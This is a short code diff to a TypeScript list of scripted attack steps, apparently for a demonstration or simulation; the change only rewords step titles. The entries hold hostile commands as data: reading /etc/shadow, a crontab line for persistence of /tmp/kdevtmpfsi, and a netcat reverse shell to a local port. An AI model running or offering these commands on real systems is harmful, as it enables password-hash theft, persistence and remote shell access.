@@ -25,7 +25,7 @@ export interface AttackAct {
 }
 
 export const attackActs: readonly AttackAct[] = [
-  { id: 'shell', title: 'finds the hole, and asks who it is', command: '/bin/id' },
+  { id: 'shell', title: 'exploits the hole and asks for the user', command: '/bin/id' },
   { id: 'shadow', title: 'reads the password hashes', command: '/bin/cat /etc/shadow' },
   {
     id: 'drop',
@@ -34,12 +34,12 @@ export const attackActs: readonly AttackAct[] = [
   },
   {
     id: 'cron',
-    title: 'wants it back after a restart',
+    title: 'adds a cron job to survive a restart',
     command: 'echo "* * * * * root /tmp/kdevtmpfsi" >> /etc/crontab',
   },
   {
     id: 'reverse',
-    title: 'calls home with a shell',
+    title: 'opens a reverse shell',
     command: '/usr/bin/nc 127.0.0.1 4444 -e /bin/sh',
   },
 ]
